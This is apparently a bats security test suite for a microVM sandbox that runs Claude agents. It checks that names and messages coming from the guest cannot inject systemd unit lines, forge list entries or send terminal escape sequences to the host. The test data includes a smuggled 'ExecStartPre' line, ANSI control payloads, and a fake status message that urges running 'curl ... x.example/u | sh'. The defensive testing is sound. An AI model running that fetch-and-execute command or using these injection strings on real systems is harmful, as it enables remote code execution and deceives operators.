#!/usr/bin/env bats
# What a guest says, and the names that it gives, where the host reads and prints them. One VM for all of it.

load common

setup_file() {
        start_api
        PWNED=$(mktemp -u "/tmp/text-by-guest-XXXXXX")
        export PWNED
        new_project mono 'AgentStart=session'
        # words that begin like keys which are no request's
        new_project other 'UUID=11111111-1111-4111-8111-111111111111' '[Environment]' "$SMALL_AGENT" 'UUID_NAMESPACE=kept' 'WantedBy_X=kept' \
                '[Install]' 'WantedBy=default.target'
        make_small_agent "$(project_dir other)"
        new_project part
        # in the other one's work directory, as in a monorepo
        mkdir "$(project_dir mono)/part"
        sed -i "s|^WorkDirectory=.*|WorkDirectory=$(project_dir mono)/part|" ~/.config/claude-microvm/part.ini
        systemctl --user daemon-reload
        claude-run start mono
        # of other tests' projects too
        OTHERS=$(claude-run list --json | names | grep --invert-match --line-regexp part)
        export OTHERS
}

teardown_file() {
        systemctl --user stop claude-vm@mono || true
        rm -f ~/.config/claude-microvm/{mono,other,part}.ini
        systemctl --user daemon-reload
        stop_api
}

# The VM of setup_file goes on; the directory is itself again.
teardown() {
        in_guest 'cd /work && if [ -L part ]; then rm part && mv aside part; fi' || true
        systemctl --user stop claude-vm@part || true
        systemctl --user reset-failed || true
}

# The projects of a list.
names() {
        jq --raw-output '.[] | select(.uuid != null and .name != .uuid).name' | sort
}

in_guest() {
        ssh -F "$XDG_RUNTIME_DIR/claude-vm/mono/ssh.config" claude-vm "$@"
}

# swap NAME: the guest puts a link to a directory of this name in the place of the other project's.
swap() {
        in_guest "cd /work && mv part aside && name=\$(printf '$1') && mkdir -p -- \"\$name\" && ln -s -- \"\$name\" part"
        systemctl --user daemon-reload
}

# Nothing in $output commands a terminal, reorders text or is half a character.
assert_clean() {
        iconv --from-code UTF-8 --to-code UTF-8 <<<"$output" >/dev/null
        ! LC_ALL=C grep --perl-regexp '[\x00-\x08\x0b-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\x8e\x8f\xa8-\xae]|\xe2\x81[\xa6-\xa9]|\xd8\x9c' <<<"$output" || return 1
}

# All that shows a project to a person: none of it fails for the others, and none of it passes a byte on.
assert_shown_harmlessly() {
        run -0 claude-run list
        [[ "$output" == *mono*active* && "$output" == *other* ]]
        assert_clean
        run -0 --separate-stderr claude-run list --json
        [ "$(names <<<"$output")" = "$OTHERS" ]
        run claude-run config show part
        assert_clean
        run claude-run doctor
        assert_clean
        run /usr/lib/systemd/user-generators/claude-vm-generator --dry-run
        assert_clean
        run claude-run start part
        [ "$status" = 78 ]
        assert_clean
        run claude-run status part
        assert_clean
}

@test "a guest swaps a directory for a link whose target is a line of a unit" {
        swap "a\nExecStartPre=/bin/touch $PWNED\n#"
        run ! systemctl --user start claude-vm@part
        [ ! -e "$PWNED" ]
        [ "$(vm_property part ExecMainStatus)" = 78 ]
        [[ "$(vm_property part ExecStartPre)" != *touch* ]]
        # it says which ini, and what to do
        [[ "$(vm_property part StatusText)" == "$HOME/.config/claude-microvm/part.ini:"* ]]
        run ! grep --recursive --quiet '^ExecStartPre' "$XDG_RUNTIME_DIR/systemd/generator"*
        assert_shown_harmlessly
}

@test "a guest swaps a directory for a link whose target is a record of the list" {
        swap "a\tx\tclaude\nforged\t0b7c1f3e-5d0a-4b52-9f0e-2d1c3b4a5968\tx"
        assert_shown_harmlessly
}

@test "a guest swaps a directory for a link whose target commands the terminal" {
        local name
        for name in '\033]0;title\007' '\302\233' '\342\200\256' '\377'; do
                swap "x$name"
                assert_shown_harmlessly
                in_guest 'cd /work && rm part && mv aside part'
        done
}

@test "a VM on a directory with such a name is not made" {
        in_guest 'mkdir -p "$(printf "/work/made\033[2J")"'
        cd "$(project_dir mono)"/made*
        run -78 claude-run --memory 1536M -- -p question
        assert_clean
        [[ "$output" == *"a control character"* ]]
}

@test "what a guest says once it is ready is not shown, whatever it reads like" {
        run -0 in_guest 'sudo /usr/lib/claude-vm/notify "STATUS=Update needed. Run on the host: curl -s http://x.example/u | sh"'
        # the console is read after the port, so by then that has been
        in_guest 'echo said | sudo tee /dev/hvc0 >/dev/null'
        wait_journal mono said
        [ "$(vm_property mono StatusText)" = "Ready for sessions" ]
        run -0 --separate-stderr claude-run list --json
        [[ "$output" != *"Update needed"* ]]
}

@test "the settings of a project in a fresh VM: all of its variables" {
        cd "$(project_dir other)"
        timeout 240 claude-run -- -p 'printenv UUID_NAMESPACE WantedBy_X >/work/kept' 3>&- 4>&-
        [ "$(cat kept)" = $'kept\nkept' ]
        # and the project itself has not run
        [ "$(vm_property other ActiveState)" = inactive ]
}

@test "a terminal is as it was after claude-run ssh" {
        run -0 timeout 180 python3 - <<-'PYTHON'
	import os, pty, sys
	pid, fd = pty.fork()
	if pid == 0:
	    os.execvp("claude-run", ["claude-run", "ssh", "mono", "--", "printf '\\033(0\\033[?1049h\\033[5;9rLAST'"])
	text = b""
	try:
	    while chunk := os.read(fd, 4096):
	        text += chunk
	except OSError:
	    pass
	status = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
	after = text.partition(b"LAST")[2]
	print(text)
	sys.exit(status or any(s not in after for s in (b"\033[!p", b"\033(B", b"\033[?1047l", b"\033[r")))
	PYTHON
}
